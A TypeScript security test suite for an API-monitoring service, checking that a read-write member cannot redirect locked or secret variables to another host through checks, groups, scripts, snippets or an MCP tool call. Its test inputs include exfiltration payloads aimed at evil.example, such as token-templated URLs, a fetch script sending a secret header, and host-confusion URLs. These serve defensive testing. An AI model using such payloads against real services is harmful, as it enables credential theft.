/** Tests attacks by a member with write access who tries to read hidden values. */
import assert from "node:assert/strict";
import { after, before, type TestContext, test } from "node:test";
import type { Answer, TestApp } from "../../../test/support/apps/app.ts";
import { createKey } from "../../../test/support/apps/cast.ts";
import { shareTestApp } from "../../../test/support/apps/shared-app.ts";
import {
  type HttpReceiver,
  startHttpReceiver,
} from "../../../test/support/servers/http-receiver.ts";

const canary = "s3cret-canary-4711";
const ours = "https://api.example.com";
type Body = Readonly<Record<string, unknown>>;

let app: TestApp;
let writer: string;
let admin: string;
before(async () => {
  app = await shareTestApp();
  writer = (await createKey(app, "READ_WRITE")).key;
  admin = (await createKey(app, "ADMIN")).key;
});
after(() => app.stop());

const as = (key: string) => (method: string, path: string, body?: Body) =>
  app.call(method, path, { key, body });
const write = (...call: Parameters<ReturnType<typeof as>>) => as(writer)(...call);
const decide = (...call: Parameters<ReturnType<typeof as>>) => as(admin)(...call);

/** Inactive, so that the tests send no request to other machines. */
const apiCheck = (url: string, more: Body = {}): Body => ({
  name: "Attack",
  activated: false,
  ...more,
  request: { method: "GET", url, ...((more.request as Body) ?? {}) },
});

async function make(answer: Promise<Answer>) {
  const { status, body, text } = await answer;
  assert.equal(status, 201, text);
  return body;
}

async function assertRejected(answer: Promise<Answer>, what: RegExp): Promise<void> {
  const { status, body, text } = await answer;
  assert.equal(status, 403, text);
  assert.equal(body.reason, "hidden-values");
  assert.match(body.message, what);
  assert.ok(!text.includes(canary));
}

/** Masked header fields are bound to their host and must be entered again. */
async function assertMustReenter(answer: Promise<Answer>): Promise<void> {
  const { status, body } = await answer;
  assert.equal(status, 400);
  assert.match(body.message, /must be entered again/);
}

const locked = { key: "X-Token", value: canary, locked: true };

function newGroup(): Promise<Body & { id: number }> {
  const apiCheckDefaults = { url: ours, headers: [locked] };
  const environmentVariables = [
    { key: "GROUP_TOKEN", value: canary, locked: true },
    { key: "GROUP_HOST", value: "api.example.com" },
  ];
  const body = { name: "Shop", apiCheckDefaults, environmentVariables };
  return make(decide("POST", "/v1/check-groups", body));
}

let host: HttpReceiver;
async function startOwnHost(t: TestContext): Promise<string> {
  host = await startHttpReceiver(t);
  return host.url;
}

test("a check of a member with another host gets no locked value of a group", async (t) => {
  const evil = await startOwnHost(t);
  const { id: groupId } = await newGroup();
  const body = apiCheck(evil, { groupId });
  await assertRejected(write("POST", "/v1/checks/api", body), /hidden values of the group Shop/);
  const tried = { ...body, checkType: "API" };
  await assertRejected(write("POST", "/v1/checks/try", tried), /group Shop/);
  const own = await make(write("POST", "/v1/checks/api", apiCheck(evil)));
  await assertRejected(write("PUT", `/v1/checks/api/${own.id}`, { groupId }), /group Shop/);
  await assertRejected(write("PUT", `/v1/checks/${own.id}`, { groupId }), /group Shop/);
  const move = { ids: [own.id], action: "move", groupId };
  await assertRejected(write("POST", "/v1/checks/bulk", move), /group Shop/);
  const many = await write("POST", "/v1/checks/many", { checks: [{ ...body, checkType: "API" }] });
  assert.match(many.text, /hidden values/);
  assert.equal(host.requests.length, 0);
});

test("variables of a group are protected in every kind that sends them", async () => {
  const { id: groupId } = await newGroup();
  const url = { name: "Url", groupId, request: { url: "https://evil.example/{{GROUP_TOKEN}}" } };
  await assertRejected(write("POST", "/v1/checks/url", url), /the variable GROUP_TOKEN/);
  const request = { hostname: "evil.example", port: 25, data: "{{GROUP_TOKEN}}" };
  const tcp = { name: "Tcp", groupId, request };
  await assertRejected(write("POST", "/v1/checks/tcp", tcp), /the variable GROUP_TOKEN/);
  const plain = { name: "Plain", groupId, request: { url: "https://evil.example/" } };
  await make(write("POST", "/v1/checks/url", plain));
});

test("a member may add checks for known hosts, and an admin for any host", async () => {
  const { id: groupId } = await newGroup();
  await make(decide("POST", "/v1/checks/api", apiCheck(`${ours}/a`, { groupId })));
  const same = await make(write("POST", "/v1/checks/api", apiCheck(`${ours}/b`, { groupId })));
  const change = { request: { method: "GET", url: `${ours}/c` } };
  assert.equal((await write("PUT", `/v1/checks/api/${same.id}`, change)).status, 200);
  for (const url of [
    "https://api.example.com.evil.example/",
    "https://api.example.com@evil.example/",
    "https://api.example.com:444/",
    "http://api.example.com/",
    "{{CHECK_NAME}}/",
  ]) {
    const moved = { request: { method: "GET", url } };
    await assertRejected(write("PUT", `/v1/checks/api/${same.id}`, moved), /group Shop/);
  }
});

test("a member cannot change a group with hidden values to another host", async () => {
  const group = await newGroup();
  const { id: groupId } = group;
  await make(decide("POST", "/v1/checks/api", apiCheck("{{GROUP_BASE_URL}}/", { groupId })));
  const tcp = { hostname: "{{GROUP_HOST}}", port: 443, data: "{{GROUP_TOKEN}}" };
  await make(decide("POST", "/v1/checks/tcp", { name: "Tcp", groupId, request: tcp }));
  const path = `/v1/check-groups/${groupId}`;
  const kept = { ...locked, value: "********" };
  const defaults = { url: "https://evil.example", headers: [kept] };
  await assertMustReenter(write("PUT", path, { apiCheckDefaults: defaults }));
  const open = { apiCheckDefaults: { url: ours, headers: [kept, { key: "Host", value: "evil" }] } };
  await assertRejected(write("PUT", path, open), /group Shop/);
  const variables = [
    { key: "GROUP_TOKEN", value: "********", locked: true },
    { key: "GROUP_HOST", value: "evil.example" },
  ];
  await assertRejected(write("PUT", path, { environmentVariables: variables }), /group Shop/);
  assert.equal((await write("PUT", path, { name: "Shop 2", muted: true })).status, 200);
  const asRead = { ...group, name: "Shop 3" };
  assert.equal((await write("PUT", path, asRead)).status, 200);
  const typed = { ...defaults, headers: [locked] };
  assert.equal((await decide("PUT", path, { apiCheckDefaults: typed })).status, 200);
});

test("a member cannot send a secret of the account to a new host", async () => {
  const token = { key: "ACCOUNT_TOKEN", value: canary, secret: true };
  await make(decide("POST", "/v1/variables", token));
  const evil = "https://evil.example/{{ACCOUNT_TOKEN}}";
  const url = { name: "Url", request: { url: evil } };
  await assertRejected(write("POST", "/v1/checks/url", url), /the variable ACCOUNT_TOKEN/);
  const headers = [{ key: "X-T", value: "{{ACCOUNT_TOKEN}}", locked: true }];
  const hiding = apiCheck("https://evil.example/", { request: { headers } });
  await assertRejected(write("POST", "/v1/checks/api", hiding), /ACCOUNT_TOKEN/);
  const good = apiCheck(`${ours}/a`, { request: { headers } });
  const made = await make(decide("POST", "/v1/checks/api", good));
  const moved = { request: { method: "GET", url: "https://evil.example/" } };
  await assertMustReenter(write("PUT", `/v1/checks/api/${made.id}`, moved));
});

test("changing the host of a check requires entering its hidden values again", async () => {
  const headers = [{ ...locked }];
  const made = await make(
    write("POST", "/v1/checks/api", apiCheck(ours, { request: { headers } })),
  );
  const path = `/v1/checks/api/${made.id}`;
  const url = "https://elsewhere.example";
  const masked = { request: { method: "GET", url, headers: [{ ...locked, value: "********" }] } };
  await assertMustReenter(write("PUT", path, masked));
  const typed = { request: { method: "GET", url, headers } };
  assert.equal((await write("PUT", path, typed)).status, 200);
  const variables = [{ key: "MINE", value: canary, secret: true }];
  const tcp = await make(
    write("POST", "/v1/checks/tcp", {
      name: "Tcp",
      environmentVariables: variables,
      request: { hostname: "db.example.com", port: 5432, data: "{{MINE}}" },
    }),
  );
  const moved = { request: { hostname: "evil.example", port: 5432, data: "{{MINE}}" } };
  await assertRejected(write("PUT", `/v1/checks/tcp/${tcp.id}`, moved), /the variable MINE/);
  const again = { ...moved, environmentVariables: variables };
  assert.equal((await write("PUT", `/v1/checks/tcp/${tcp.id}`, again)).status, 200);
});

test("a hidden value is entered only in its own place, not anywhere in the request", async () => {
  const pin = { key: "PIN", value: "4711", secret: true };
  const request = { hostname: "db.example.com", port: 5432, data: "{{PIN}}" };
  const body = { name: "Tcp", activated: false, environmentVariables: [pin], request };
  const made = await make(decide("POST", "/v1/checks/tcp", body));
  const moved = { request: { ...request, hostname: "evil.example" } };
  const kept = { ...pin, value: "********" };
  for (const guess of [
    { name: "0123456789471178900" },
    { tags: ["4711"] },
    { environmentVariables: [kept, { key: "GUESS", value: "4711" }] },
  ]) {
    const attack = { ...moved, ...guess };
    await assertRejected(write("PUT", `/v1/checks/tcp/${made.id}`, attack), /the variable PIN/);
  }
  await make(decide("POST", "/v1/variables", { key: "ACCOUNT_PIN", value: "0815", secret: true }));
  const other = { ...request, hostname: "evil.example", data: "{{ACCOUNT_PIN}} 0815" };
  const sent = { name: "0815", request: other };
  await assertRejected(write("POST", "/v1/checks/tcp", sent), /the variable ACCOUNT_PIN/);
  const variables = [{ key: "GROUP_PIN", value: "1234", secret: true }];
  const group = { name: "Pins", environmentVariables: variables, apiCheckDefaults: { url: ours } };
  const { id: groupId } = await make(decide("POST", "/v1/check-groups", group));
  const redirect = { name: "1234", apiCheckDefaults: { url: "https://evil.example" } };
  await assertRejected(write("PUT", `/v1/check-groups/${groupId}`, redirect), /group Pins/);
  const entered = { ...redirect, environmentVariables: variables };
  assert.equal((await write("PUT", `/v1/check-groups/${groupId}`, entered)).status, 200);
});

test("a check with hidden values is found behind thousands of others", async () => {
  await make(decide("POST", "/v1/variables", { key: "BULK_HOST", value: "api.example.com" }));
  await make(decide("POST", "/v1/variables", { key: "BULK_TOKEN", value: canary, secret: true }));
  const request = { hostname: "{{BULK_HOST}}", port: 443 };
  const decoy = await make(
    decide("POST", "/v1/checks/tcp", { name: "Decoy", activated: false, request }),
  );
  const { rows } = await app.query(
    `select string_agg(quote_ident(column_name), ', ') as others from information_schema.columns
      where table_name = 'checks' and is_generated = 'NEVER' and column_name <> 'id'`,
  );
  const { others } = rows[0];
  await app.query(
    `insert into checks (id, ${others})
      select overlay(gen_random_uuid()::text placing '00000000' from 1)::uuid, ${others}
      from checks, generate_series(1, 2001) where id = $1`,
    [decoy.id],
  );
  const secret = { ...request, data: "{{BULK_TOKEN}}" };
  await make(decide("POST", "/v1/checks/tcp", { name: "Last", activated: false, request: secret }));
  const evil = { value: "evil.example" };
  await assertRejected(write("PUT", "/v1/variables/BULK_HOST", evil), /BULK_TOKEN/);
  await app.query("delete from checks where id::text like '00000000-%'");
});

test("a member cannot change a variable that is the host of hidden values", async () => {
  await make(decide("POST", "/v1/variables", { key: "API_HOST", value: "api.example.com" }));
  await make(decide("POST", "/v1/variables", { key: "HOST_TOKEN", value: canary, secret: true }));
  const request = { hostname: "{{API_HOST}}", port: 443, data: "{{HOST_TOKEN}}" };
  await make(decide("POST", "/v1/checks/tcp", { name: "By variable", request }));
  const evil = { value: "evil.example" };
  await assertRejected(write("PUT", "/v1/variables/API_HOST", evil), /HOST_TOKEN/);
  await assertRejected(write("DELETE", "/v1/variables/API_HOST"), /HOST_TOKEN/);
  assert.equal((await decide("PUT", "/v1/variables/API_HOST", evil)).status, 200);
  await make(write("POST", "/v1/variables", { key: "UNUSED_HOST", value: "a.example" }));
  assert.equal((await write("PUT", "/v1/variables/UNUSED_HOST", evil)).status, 200);
  // A variable of the check overrides it, which is a change of the check's host.
  const shadowed = { environmentVariables: [{ key: "API_HOST", value: "evil.example" }] };
  const { body } = await decide("GET", "/v1/checks?limit=100");
  const { id } = body.find(({ name }: { name: string }) => name === "By variable");
  await decide("PUT", "/v1/variables/API_HOST", { value: "api.example.com" });
  await assertRejected(write("PUT", `/v1/checks/tcp/${id}`, shadowed), /HOST_TOKEN/);
});

test("a member cannot run a probe: only admins create private locations and keys", async () => {
  const location = { name: "Mine", slugName: "mine" };
  assert.equal((await write("POST", "/v1/private-locations", location)).status, 403);
  const made = await make(decide("POST", "/v1/private-locations", location));
  const keys = `/v1/private-locations/${made.id}/keys`;
  assert.equal((await write("POST", keys)).status, 403);
  const read = await write("GET", "/v1/private-locations");
  assert.ok(!read.text.includes(made.keys[0].rawKey), "a key is shown once, to its creator");
  await make(decide("POST", keys));
});

test("a member adds no script that would receive hidden values, and changes none", async () => {
  const key = "SCRIPT_TOKEN";
  const localSetupScript = "require('./snippets/send.js')";
  const plain = await make(write("POST", "/v1/checks/api", apiCheck(ours)));
  const own = await make(write("POST", "/v1/check-groups", { name: "Own" }));
  const send = { name: "send", script: "module.exports = 1" };
  await make(decide("POST", "/v1/variables", { key, value: canary, secret: true }));
  const check = await make(
    decide("POST", "/v1/checks/api", apiCheck(ours, { localSetupScript, name: "Scripted" })),
  );
  const known = { name: "known", script: "1" };
  const { id: tearDownSnippetId } = await make(decide("POST", "/v1/snippets", known));
  const what = /would send .*the variable [A-Z_]+.* to a script/;
  for (const script of [{ localSetupScript: "1" }, { tearDownSnippetId }]) {
    await assertRejected(write("PUT", `/v1/checks/api/${plain.id}`, script), what);
    await assertRejected(write("POST", "/v1/checks/api", apiCheck(ours, script)), what);
    await assertRejected(write("PUT", `/v1/check-groups/${own.id}`, script), what);
    await assertRejected(write("POST", "/v1/check-groups", { name: "New", ...script }), what);
  }
  await assertRejected(
    write("PUT", `/v1/checks/api/${check.id}`, { localSetupScript: "fetch(evil)" }),
    what,
  );
  // The script of the admin imports a snippet of this name.
  await assertRejected(write("POST", "/v1/snippets", send), what);
  const unused = await make(write("POST", "/v1/snippets", { ...send, name: "unused" }));
  await assertRejected(write("PUT", `/v1/snippets/${unused.id}`, send), what);
  const snippet = await make(decide("POST", "/v1/snippets", send));
  await assertRejected(write("PUT", `/v1/snippets/${snippet.id}`, send), what);
  const renamed = await write("PUT", `/v1/checks/api/${check.id}`, { name: "Renamed" });
  assert.equal(renamed.status, 200, renamed.text);
});

test("a member cannot redirect hidden values of checks through a group without its own", async () => {
  const token = { key: "REDIRECT_TOKEN", value: canary, secret: true };
  await make(decide("POST", "/v1/variables", token));
  const variables = (host: string) => [{ key: "SHOP_HOST", value: host }];
  const group = await make(
    write("POST", "/v1/check-groups", {
      name: "Plain",
      apiCheckDefaults: { url: ours },
      environmentVariables: variables("api.example.com"),
    }),
  );
  const groupId = group.id;
  const path = `/v1/check-groups/${groupId}`;
  const request = { hostname: "{{SHOP_HOST}}", port: 443, data: "{{REDIRECT_TOKEN}}" };
  const tcp = { name: "Through", activated: false, groupId, request };
  const { id: tcpId } = await make(decide("POST", "/v1/checks/tcp", tcp));
  const evil = { environmentVariables: variables("evil.example") };
  await assertRejected(write("PUT", path, evil), /REDIRECT_TOKEN/);
  assert.equal((await write("PUT", path, { name: "Plain 2" })).status, 200);
  assert.equal((await decide("DELETE", `/v1/checks/${tcpId}`)).status, 204);
  assert.equal((await write("PUT", path, evil)).status, 200, "no check uses the variable");

  const headers = [locked];
  const api = apiCheck("{{GROUP_BASE_URL}}/a", { groupId, request: { headers } });
  await make(decide("POST", "/v1/checks/api", api));
  const elsewhere = { apiCheckDefaults: { url: "https://evil.example" } };
  await assertRejected(write("PUT", path, elsewhere), /hidden values of the check/);
  assert.equal((await decide("PUT", path, elsewhere)).status, 200);
});

test("a member cannot redirect hidden values by moving checks between groups", async () => {
  await make(decide("POST", "/v1/variables", { key: "MOVED_TOKEN", value: canary, secret: true }));
  const newPlain = async (host: string) => {
    const environmentVariables = [{ key: "MOVE_HOST", value: host }];
    return (await make(write("POST", "/v1/check-groups", { name: host, environmentVariables }))).id;
  };
  const [home, evil] = [await newPlain("api.example.com"), await newPlain("evil.example")];
  const request = { hostname: "{{MOVE_HOST}}", port: 443, data: "{{MOVED_TOKEN}}" };
  const tcp = { name: "Moved", activated: false, groupId: home, request };
  const { id } = await make(decide("POST", "/v1/checks/tcp", tcp));
  const move = (groupId: unknown) =>
    write("POST", "/v1/checks/bulk", { ids: [id], action: "move", groupId });
  await assertRejected(move(evil), /MOVED_TOKEN/);
  await assertRejected(move(null), /MOVED_TOKEN/);
  await assertRejected(write("PUT", `/v1/checks/tcp/${id}`, { groupId: evil }), /MOVED_TOKEN/);
  const same = await move(await newPlain("api.example.com"));
  assert.deepEqual([same.status, same.body.checks?.[0].outcome], [200, "changed"], same.text);
});

test("a variable that a script reads cannot redirect what the script sends", async () => {
  await make(decide("POST", "/v1/variables", { key: "READ_TOKEN", value: canary, secret: true }));
  const variables = (value: string) => ({ environmentVariables: [{ key: "TO", value }] });
  const script = "fetch(process.env.TO, { headers: { t: process.env.READ_TOKEN } })";
  const { id: groupId } = await make(
    write("POST", "/v1/check-groups", { name: "Scripted", ...variables(ours) }),
  );
  const own = apiCheck(ours, { localSetupScript: script, ...variables(ours) });
  const { id } = await make(decide("POST", "/v1/checks/api", own));
  const evil = variables("https://evil.example");
  await assertRejected(write("PUT", `/v1/checks/api/${id}`, evil), /the variable [A-Z_]+TOKEN/);
  const ofGroup = apiCheck(ours, { localSetupScript: script, groupId });
  await make(decide("POST", "/v1/checks/api", ofGroup));
  await assertRejected(
    write("PUT", `/v1/check-groups/${groupId}`, evil),
    /the variable [A-Z_]+TOKEN/,
  );
  assert.equal((await write("PUT", `/v1/checks/api/${id}`, { name: "Renamed" })).status, 200);
});

test("a tool proposes no check that would send hidden values to a new host", async () => {
  await make(decide("POST", "/v1/variables", { key: "TOOL_TOKEN", value: canary, secret: true }));
  const request = { hostname: "evil.example", port: 443, data: "{{TOOL_TOKEN}}" };
  const body = { checkType: "TCP", name: "Proposed", activated: false, request };
  const params = { name: "create_check", arguments: { body } };
  const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params };
  const { text } = await write("POST", "/mcp", call);
  assert.match(text, /would send .*TOOL_TOKEN/);
});
